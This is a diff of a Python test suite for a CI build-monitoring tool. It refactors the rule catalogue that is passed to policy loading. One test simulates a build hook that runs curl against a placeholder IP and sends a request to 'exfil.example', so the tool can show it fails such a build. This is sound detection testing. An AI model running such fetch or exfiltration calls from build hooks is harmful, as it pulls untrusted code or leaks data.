@@ -24,7 +24,6 @@ import pytest
 
 from ciwatch.policy.loader import default_policy, parse_policy
 from ciwatch.policy.model import Policy, Severity
-from ciwatch.policy.rule_ids import DEFAULT_SEVERITIES, RULE_IDS
 from ciwatch.record import SCHEMA_VERSION, Record, RecordWriter, read_record
 from ciwatch.record.events import (
     AllowlistLearned,
@@ -49,7 +48,7 @@ from ciwatch.record.events import (
     RegistryAllowed,
     TlsHandling,
 )
-from ciwatch.rules import ALL_RULES, RULES_BY_ID, Finding
+from ciwatch.rules import ALL_RULES, RULE_CATALOGUE, RULES_BY_ID, Finding
 from ciwatch.verdict import Verdict, VerdictKind, evaluate
 
 HOME = "/home/ci"
@@ -255,10 +254,10 @@ class Build:
 
 def as_policy(policy: str | Policy | None) -> Policy:
     if policy is None:
-        return default_policy()
+        return default_policy(known_rules=RULE_CATALOGUE)
     if isinstance(policy, Policy):
         return policy
-    return parse_policy(textwrap.dedent(policy), "policy.yml")
+    return parse_policy(textwrap.dedent(policy), "policy.yml", known_rules=RULE_CATALOGUE)
 
 
 def found(verdict: Verdict, rule: str) -> list[Finding]:
@@ -282,18 +281,17 @@ def build(tmp_path: Path) -> Build:
 def test_every_rule_has_a_registered_id_with_the_same_default_and_a_documented_section() -> None:
     docs = DOCS.read_text()
     sections = set(re.findall(r"^## ([a-z-]+)$", docs, re.MULTILINE))
-    default = default_policy()
+    default = default_policy(known_rules=RULE_CATALOGUE)
     for rule in ALL_RULES:
         info = rule.info
-        assert info.id in RULE_IDS, info.id
-        assert DEFAULT_SEVERITIES[info.id] is info.default_severity, info.id
-        assert default.severity(info.id) is info.default_severity, f"policies/default.yaml disagrees on {info.id}"
+        assert RULE_CATALOGUE[info.id] is info.default_severity, info.id
+        assert default.severities[info.id] is info.default_severity, f"policies/default.yaml disagrees on {info.id}"
         assert info.id in sections, f"docs/rules.md has no '## {info.id}' section"
         assert info.doc_anchor == f"docs/rules.md#{info.id}"
         assert info.summary and info.hint
         section = docs.split(f"## {info.id}\n", 1)[1].split("\n## ", 1)[0]
         assert f"Default severity: **{info.default_severity.label}**" in section, info.id
-    assert set(RULE_IDS) == set(RULES_BY_ID) == sections
+    assert set(RULE_CATALOGUE) == set(RULES_BY_ID) == sections
     assert len(ALL_RULES) == len(RULES_BY_ID)
 
 
@@ -302,7 +300,11 @@ def test_every_policy_snippet_in_the_rules_doc_loads() -> None:
     policies = [text for text in snippets if "ciwatch run" not in text]  # a CI workflow, not a policy
     assert len(policies) >= 11
     for index, text in enumerate(policies):
-        parse_policy(text if "\nversion:" in f"\n{text}" else f"version: 1\n{text}", f"docs/rules.md[{index}]")
+        parse_policy(
+            text if "\nversion:" in f"\n{text}" else f"version: 1\n{text}",
+            f"docs/rules.md[{index}]",
+            known_rules=RULE_CATALOGUE,
+        )
 
 
 def test_a_finding_links_to_its_rule_section(build: Build) -> None:
@@ -1213,5 +1215,5 @@ def test_a_fully_excepted_run_passes(build: Build) -> None:
 def test_check_replays_the_same_verdict_from_the_stored_record(build: Build) -> None:
     build.hook().spawn(["curl", "-fsS", "http://203.0.113.5/x"]).request("exfil.example")
     first = build.judge()
-    again = evaluate(read_record(build.path), default_policy(), today=TODAY)
+    again = evaluate(read_record(build.path), default_policy(known_rules=RULE_CATALOGUE), today=TODAY)
     assert again == first and first.verdict is VerdictKind.FAIL
